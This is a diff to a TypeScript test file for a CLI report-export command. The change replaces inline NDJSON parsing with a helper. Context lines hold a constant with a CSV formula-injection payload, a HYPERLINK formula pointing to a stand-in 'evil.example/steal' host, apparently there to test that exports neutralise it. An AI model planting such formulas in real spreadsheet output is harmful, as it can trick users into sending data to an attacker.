@@ -2,7 +2,7 @@ import { readFileSync } from "node:fs";
 import { parse } from "csv-parse/sync";
 import { beforeAll, describe, expect, it } from "vitest";
 import type { Invitation } from "../../src/sandbox/index.js";
-import { useTempDir, useTestEnv } from "../helpers/cli.js";
+import { ndjson, useTempDir, useTestEnv } from "../helpers/cli.js";
 
 const EVIL = '=HYPERLINK("http://evil.example/steal?x=1","Click me")';
 
@@ -106,10 +106,7 @@ describe("reports export", () => {
     const [from, to] = [dayOf(-120), dayOf(-120 + 94)];
     const r = await t.run(["reports", "export", "--from", from, "--to", to, "-o", "ndjson"]);
     expect(r.code, r.stderr).toBe(0);
-    const rows = r.stdout
-      .trim()
-      .split("\n")
-      .map((line) => JSON.parse(line) as Record<string, unknown>);
+    const rows = ndjson(r.stdout);
     const truth = finishedBetween(`${from}T00:00:00Z`, `${to}T23:59:59Z`);
     expect(truth.length).toBeGreaterThan(20);
     expect(rows.map((row) => row.testInvitationId).sort()).toEqual(
